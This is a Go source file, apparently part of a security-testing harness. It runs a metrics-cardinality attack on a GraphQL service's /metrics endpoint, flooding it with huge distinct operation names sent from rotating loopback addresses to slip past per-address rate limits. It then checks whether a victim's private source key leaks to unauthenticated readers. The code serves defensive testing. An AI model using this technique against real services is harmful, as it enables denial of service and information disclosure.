package main

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"strings"
	"sync"
	"time"
)

// The metrics attack: operation names chosen by anonymous clients become
// label values of /metrics.
const (
	metricNames    = 200
	metricNameSize = 20_000
	// privateSource is the key of a custom source of the victim's
	// environment: its name is the victim's business.
	privateSource = "victim-private-erp"
)

// metricsAttacks returns the attack on /metrics.
func metricsAttacks() []attack {
	return []attack{{name: "metrics", run: metricsCardinality}}
}

// metricsCardinality has the victim add a custom source and an account of
// it, then sends metricNames anonymous requests with distinct operation
// names of metricNameSize bytes, each from its own loopback address (the
// anonymous rate limit is per address), and reads /metrics without a key
// before and after.
func metricsCardinality(window context.Context, t *target) outcome {
	ctx := context.WithoutCancel(window) // the requests finish after the window
	status0, before, err := getMetrics(t)
	if err != nil {
		return failed("reading /metrics", err)
	}
	victim := t.victimAdmin.SecretKey
	err = t.must(ctx, victim, `mutation($in: CreateCustomSourceInput!) { createCustomSource(input: $in) { source { key } } }`,
		map[string]any{"in": map[string]any{
			"key": privateSource, "name": "Our ERP", "baseUrl": "https://erp.invalid", "path": "/me", "placement": "BEARER",
			"field": "token", "identifierPath": "id", "fields": []map[string]any{{"name": "token", "label": "Token", "secret": true}},
		}}, nil)
	if err != nil {
		return failed("creating the victim's custom source", err)
	}
	// The verification fails (the name does not resolve); it is the attempt
	// that counts.
	_, _ = t.query(ctx, victim, `mutation($in: CreateAccountInput!) { createAccount(input: $in) { account { id } } }`,
		map[string]any{"in": map[string]any{"source": privateSource, "credentialType": "default", "credentials": map[string]any{"token": "x"}}})

	answers := map[string]int{}
	var mu sync.Mutex
	var wg sync.WaitGroup
	next := make(chan int)
	for range 8 {
		wg.Go(func() {
			for i := range next {
				name := fmt.Sprintf("Q%04d_%s", i, strings.Repeat("a", metricNameSize-6))
				body := []byte(fmt.Sprintf(`{"query": "query %s { __typename }", "operationName": %q}`, name, name))
				r, err := t.do(ctx, fromAddress(i, 10*time.Second), "", body)
				mu.Lock()
				answers[httpOutcome(r, err)]++
				mu.Unlock()
			}
		})
	}
	for i := range metricNames {
		next <- i
	}
	close(next)
	wg.Wait()
	status1, text, err := getMetrics(t)
	if err != nil {
		return failed("reading /metrics", err)
	}
	requests := fmt.Sprintf("requests: %s", tally(answers))
	if status0 != http.StatusOK || status1 != http.StatusOK {
		return outcome{summary: fmt.Sprintf("GET /metrics without a key answered %d before and %d after (%s)", status0, status1, requests),
			figures: map[string]any{"statusBefore": status0, "statusAfter": status1, "answers": answers}}
	}
	kept := 0
	for i := range metricNames {
		if strings.Contains(text, fmt.Sprintf("Q%04d_", i)) {
			kept++
		}
	}
	leak := "not readable"
	if strings.Contains(text, privateSource) {
		leak = "readable"
	}
	return outcome{
		summary: fmt.Sprintf("/metrics (no key needed) grew from %.1f KB to %.1f KB, holding %d of %d names (%s); the victim's custom source key %q %s there",
			float64(len(before))/1e3, float64(len(text))/1e3, kept, metricNames, requests, privateSource, leak),
		details: []string{fmt.Sprintf("%d anonymous requests, each from its own loopback address, named with %d-byte distinct operation names", metricNames, metricNameSize)},
		figures: map[string]any{"bytesBefore": len(before), "bytesAfter": len(text), "namesKept": kept, "answers": answers, "privateSourceReadable": leak == "readable"},
	}
}

// getMetrics reads /metrics without a key and returns the status and the
// text.
func getMetrics(t *target) (int, string, error) {
	resp, err := http.Get(t.url + "/metrics")
	if err != nil {
		return 0, "", err
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b), err
}
